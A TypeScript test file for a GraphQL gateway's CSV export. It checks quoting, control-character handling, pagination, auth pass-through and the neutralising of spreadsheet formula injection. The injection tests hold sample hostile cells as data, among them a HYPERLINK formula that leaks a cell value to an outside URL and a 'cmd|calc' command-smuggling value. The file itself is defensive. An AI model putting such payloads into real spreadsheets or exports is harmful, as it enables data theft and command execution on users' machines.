import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { collect, csvShape, toCsv } from './csv-format.js';
import { createCsvExport } from './csv.js';

describe('CSV format', () => {
  it('quotes per RFC 4180 and ends every record with CRLF', () => {
    const rows = [
      { code: '1', name: 'plain', region: { name: 'a,b' } },
      { code: '2', name: 'say "hi"', region: null },
      { code: '3', name: 'two\nlines', region: { name: '后仓村村委会' } },
    ];
    expect(toCsv(['code', 'name', 'region.name'], rows)).toBe(
      'code,name,region.name\r\n1,plain,"a,b"\r\n2,"say ""hi""",\r\n3,"two\nlines",后仓村村委会\r\n',
    );
  });

  it('writes control characters but tab and line breaks as U+FFFD, before quoting', () => {
    const rows = [
      { name: 'a\u0000b', note: 'bell\u0007, "esc"\u001b' },
      { name: '\u0000=1+2', note: 'del\u007f c1\u0085 tab\tcr\r' },
    ];
    expect(toCsv(['name', 'note'], rows)).toBe(
      'name,note\r\n' +
        'a\uFFFDb,"bell\uFFFD, ""esc""\uFFFD"\r\n' +
        '\uFFFD=1+2,"del\uFFFD c1\uFFFD tab\tcr\r"\r\n',
    );
  });

  it('gives text a spreadsheet would run as a formula a leading quote, not numbers', () => {
    const rows = [
      { name: '=HYPERLINK("http://x/?"&A1,"Click")', n: -3, money: '-12.50' },
      { name: '@SUM(1)', n: 2, money: '+1' },
      { name: '-1+2', n: 0, money: '\t=1' },
      { name: ['=A1', 'b'], n: 1, money: 'plain' },
      { name: ['-1', '-x'], n: 5, money: '-.5' },
      { name: '-1e3', n: 6, money: '+86 571 0000' },
      { name: ['-2', '3+cmd|calc'], n: 7, money: ['1', '2'] },
    ];
    expect(toCsv(['name', 'n', 'money'], rows)).toBe(
      'name,n,money\r\n' +
        `"'=HYPERLINK(""http://x/?""&A1,""Click"")",-3,-12.50\r\n` +
        "'@SUM(1),2,+1\r\n" +
        "'-1+2,0,'\t=1\r\n" +
        "'=A1; b,1,plain\r\n" +
        // The cell starts with `-` and is no number, whatever its first item is.
        "'-1; '-x,5,-.5\r\n" +
        "-1e3,6,'+86 571 0000\r\n" +
        "'-2; 3+cmd|calc,7,1; 2\r\n",
    );
  });

  it('takes the columns from the selection, nested fields as dotted names, in order', () => {
    const shape = csvShape(
      `query Q($after: String) { villages(after: $after) { pageInfo { endCursor }
         edges { node { code n: name township { name } ... on Village { kind } } } } }`,
      'villages.edges.node',
      'villages',
    );
    expect(shape.columns).toEqual(['code', 'n', 'township.name', 'kind']);
    expect(() => csvShape('query { a { ...F } } fragment F on A { b }', 'a')).toThrow(/fragments/);
    expect(() => csvShape('query { a { b } }', 'a.b')).toThrow(/rows path/);
  });

  it('flattens lists on the rows path and reports a null on the way', () => {
    const data = { villages: { edges: [{ node: { code: 'a' } }, { node: { code: 'b' } }] } };
    expect(collect(data, ['villages', 'edges', 'node'])).toEqual([{ code: 'a' }, { code: 'b' }]);
    expect(collect({ region: null }, ['region', 'children'])).toBeUndefined();
    expect(collect({ region: { children: [] } }, ['region', 'children'])).toEqual([]);
  });
});

// A stand-in for the gateway's pipeline that records what the export runs, to show that the
// caller's own request is what runs and how pages are followed (the real path: test/csv.test.ts).
describe('CSV export against a recording pipeline', () => {
  const seen: {
    headers: IncomingHttpHeaders;
    requestId: string;
    body: { variables: Record<string, unknown> };
  }[] = [];
  let reply: (variables: Record<string, unknown>) => { status: number; body: unknown };
  let gateway: Server;
  let base: string;

  beforeAll(async () => {
    const csv = createCsvExport({
      operations: {
        things: {
          description: 'Paged things.',
          document: `query Things($first: Int, $all: Boolean, $after: String) {
            things(first: $first, all: $all, after: $after) {
              pageInfo { hasNextPage endCursor } edges { node { id label } } } }`,
          rows: 'things.edges.node',
          paginate: 'things',
        },
      },
      execute: async (req, requestId, raw) => {
        const body = raw as { variables: Record<string, unknown> };
        seen.push({ headers: req.headers, requestId, body });
        const out = reply(body.variables);
        return {
          status: out.status,
          headers: {
            'content-type': 'application/json',
            ...(out.status === 401 ? { 'www-authenticate': 'ApiKey' } : {}),
          },
          body: JSON.stringify(out.body),
        };
      },
      maxRows: 5,
      timeoutMs: 60_000,
    });
    gateway = createServer((req, res) => {
      void csv.handle(req, res, req.url!.split('?')[0], 'req-1');
    });
    await new Promise<void>((r) => gateway.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(gateway.address() as AddressInfo).port}`;
  });
  afterAll(() => {
    gateway?.close();
  });

  const page = (ids: string[], next: string | null) => ({
    status: 200,
    body: {
      data: {
        things: {
          pageInfo: { hasNextPage: next !== null, endCursor: next },
          edges: ids.map((id) => ({ node: { id, label: `L${id}` } })),
        },
      },
    },
  });

  it('follows pages, coerces parameters and runs with the caller’s own request', async () => {
    seen.length = 0;
    reply = (v) => (v.after === null ? page(['1', '2'], 'c2') : page(['3'], null));
    const res = await fetch(`${base}/csv/things?first=2&all=true`, {
      headers: { 'x-api-key': 'k-123', authorization: 'Bearer t', 'x-custom': 'y' },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="things-2-true.csv"');
    expect(await res.text()).toBe('id,label\r\n1,L1\r\n2,L2\r\n3,L3\r\n');
    expect(seen.map((s) => s.body.variables)).toEqual([
      { first: 2, all: true, after: null },
      { first: 2, all: true, after: 'c2' },
    ]);
    const h = seen[0].headers;
    expect([h['x-api-key'], h.authorization, h['x-custom'], seen[0].requestId]).toEqual([
      'k-123',
      'Bearer t',
      'y',
      'req-1',
    ]);
  });

  it('passes the pipeline’s refusal on, status and challenge included', async () => {
    reply = () => ({
      status: 401,
      body: { errors: [{ message: 'API key unknown.', extensions: { code: 'UNAUTHENTICATED' } }] },
    });
    const res = await fetch(`${base}/csv/things`, { headers: { 'x-api-key': 'wrong' } });
    expect(res.status).toBe(401);
    expect(res.headers.get('www-authenticate')).toBe('ApiKey');
    expect(await res.json()).toEqual({
      errors: [{ message: 'API key unknown.', extensions: { code: 'UNAUTHENTICATED' } }],
    });
  });

  it('maps GraphQL errors in a 200 answer to an HTTP status and sends no partial CSV', async () => {
    reply = () => ({
      status: 200,
      body: { data: null, errors: [{ message: 'No.', extensions: { code: 'FORBIDDEN' } }] },
    });
    const res = await fetch(`${base}/csv/things`);
    expect(res.status).toBe(403);
    expect((await res.json()) as unknown).toEqual({
      errors: [{ message: 'No.', extensions: { code: 'FORBIDDEN' } }],
    });
  });

  it('refuses results above the row limit, bad parameters and other methods', async () => {
    reply = (v) => page(['a', 'b', 'c'], v.after === null ? 'c3' : null);
    const big = await fetch(`${base}/csv/things`);
    expect(big.status).toBe(400);
    expect(
      ((await big.json()) as { errors: { extensions: object }[] }).errors[0].extensions,
    ).toEqual({ code: 'BAD_REQUEST' });
    const bad = await fetch(`${base}/csv/things?first=many`);
    expect(bad.status).toBe(400);
    expect(await bad.json()).toEqual({
      errors: [
        {
          message: '"first" must be a number.',
          extensions: { code: 'BAD_USER_INPUT', field: 'first' },
        },
      ],
    });
    const unknown = await fetch(`${base}/csv/things?after=x`);
    expect(unknown.status).toBe(400);
    const post = await fetch(`${base}/csv/things`, { method: 'POST' });
    expect(post.status).toBe(405);
    expect(post.headers.get('allow')).toBe('GET');
    expect((await post.json()).errors[0].extensions.code).toBe('BAD_REQUEST');
  });
});
